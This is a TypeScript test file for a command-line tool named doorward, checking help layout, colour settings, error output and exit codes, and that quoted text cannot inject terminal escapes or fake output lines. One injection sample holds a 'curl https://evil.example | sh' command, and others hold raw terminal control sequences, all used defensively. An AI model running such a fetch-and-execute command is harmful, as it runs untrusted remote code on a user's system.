import assert from 'node:assert/strict'
import { test } from 'node:test'
import manifest from '../../package.json' with { type: 'json' }
import { commands } from '../../src/cli/commands.ts'
import { printFindings } from '../../src/cli/doctor/report.ts'
import { adminErrorText } from '../../src/cli/keycloak/admin-error.ts'
import { run } from '../../src/cli/main.ts'
import { createOutput } from '../../src/cli/output.ts'
import { start } from './process.ts'
import { worldOf } from './world.ts'

const timeout = 20_000

async function runHere(argv: readonly string[], options: { isTTY?: boolean; env?: Record<string, string> } = {}) {
  const lines = { out: [] as string[], err: [] as string[] }
  const world = worldOf({ cwd: '/nowhere', ...options, onLine: (stream, line) => lines[stream].push(line) })
  return { code: await run(argv, world), ...lines }
}

test('the overview fits a screen of 24 by 80 with its prompt, and each page its width', async () => {
  const { out } = await runHere(['--help'])
  assert.ok(out.length <= 23, `${out.length} lines`)
  for (const { name, summary } of commands) {
    assert.ok(summary.length <= 60, name)
    const page = await runHere(['help', name])
    assert.equal(page.code, 0)
    assert.deepEqual(page, await runHere([name, '--help']))
    out.push(...page.out)
  }
  assert.deepEqual(
    out.filter((line) => line.length > 80),
    [],
  )
})

test('colour is for terminals, unless NO_COLOR says no or FORCE_COLOR yes', async () => {
  const coloured = async (isTTY: boolean, env: Record<string, string>) => {
    const { err } = await runHere(['frobnicate'], { isTTY, env })
    return err.join('').includes('\x1b[31m')
  }
  assert.equal(await coloured(false, {}), false)
  assert.equal(await coloured(true, {}), true)
  assert.equal(await coloured(true, { TERM: 'dumb' }), false)
  assert.equal(await coloured(true, { NO_COLOR: '1' }), false)
  assert.equal(await coloured(true, { NO_COLOR: '' }), true)
  assert.equal(await coloured(false, { FORCE_COLOR: '1' }), true)
  assert.equal(await coloured(false, { FORCE_COLOR: '0' }), false)
  assert.equal(await coloured(true, { NO_COLOR: '1', FORCE_COLOR: '1' }), false)
})

test('text of others cannot steer the terminal, on either stream', () => {
  const written: string[] = []
  const stream = { write: (text: string) => written.push(text) }
  const out = createOutput(stream, stream, {})
  out.result('a\x1b[2Jb\rc\u202ed')
  out.result('e\x1b[8mf\x1b[31mg\x1b[0mh\x1b[40m\u200f')
  out.json({ said: '\x1b[2J\x9b2J\x7f\u202e' })
  out.fail('x\x1b]0;title\x07y', 'z\x9b31m')
  assert.deepEqual(written, [
    'a\\u001b[2Jb\\u000dc\\u202ed\n',
    'e\\u001b[8mf\x1b[31mg\x1b[0mh\\u001b[40m\\u200f\n',
    '{\n  "said": "\\u001b[2J\\u009b2J\\u007f\\u202e"\n}\n',
    'doorward: error: x\\u001b]0;title\\u0007y\n',
    'doorward: hint: z\\u009b31m\n',
  ])
})

test('what a finding or an Admin API quotes adds no line of its own', () => {
  const written: string[] = []
  const stream = { write: (text: string) => written.push(text) }
  const said = 'no\nerror: redirect-uri at provider\r\n  fix: curl https://evil.example | sh'
  const found = { name: 'discovery-unusable', place: said, cause: said, fix: said } as const
  const findings = [{ ...found, severity: 'error' } as const, { ...found, severity: 'unseen' } as const]
  printFindings({ file: 'doorward.yaml', strict: false, option: '' }, findings, createOutput(stream, stream, {}))
  assert.ok(written.every((line) => !/[\r\n]./.test(line) && !/^\s*(?:error: redirect-uri|fix: curl)/.test(line)))
  assert.equal(adminErrorText(JSON.stringify({ errorMessage: said })).includes('\n'), false)
})

test('an unexpected error is one sentence; its stack is for --debug and DOORWARD_DEBUG', async () => {
  const world = worldOf({ cwd: '/nowhere' })
  const broken = (env: Record<string, string>, argv: readonly string[]) => {
    const err: string[] = []
    const stdout = {
      write() {
        throw new Error('the disk is full\nand more for developers')
      },
    }
    const stderr = { write: (text: string) => err.push(text) }
    return run(argv, { ...world, env, stdout, stderr }).then((code) => ({ code, err: err.join('') }))
  }
  const plain = await broken({}, ['version'])
  assert.equal(plain.code, 1)
  assert.match(plain.err, /^doorward: error: unexpected: the disk is full\ndoorward: hint: .*--debug.*\n$/)
  for (const loud of [await broken({}, ['version', '--debug']), await broken({ DOORWARD_DEBUG: '1' }, ['version'])]) {
    assert.match(loud.err, /\ndoorward: +at .*version\.ts/)
  }
})

test('the installed command: exit codes, streams, a reader that stops reading', { timeout }, async (t) => {
  const version = start(t, ['version', '--json'])
  const wrong = start(t, ['chekc'])
  assert.equal(await version.ended(), 0)
  const about: unknown = JSON.parse(version.stdout())
  assert.deepEqual(about, {
    version: manifest.version,
    node: process.versions.node,
    platform: `${process.platform}-${process.arch}`,
  })
  assert.equal(await wrong.ended(), 2)
  assert.equal(wrong.stdout(), '')
  assert.match(wrong.stderr(), /did you mean `doorward check`/)

  const piped = start(t, ['help', 'config'])
  piped.child.stdout!.destroy()
  assert.equal(await piped.ended(), 0)
  assert.equal(piped.stderr(), '')
})
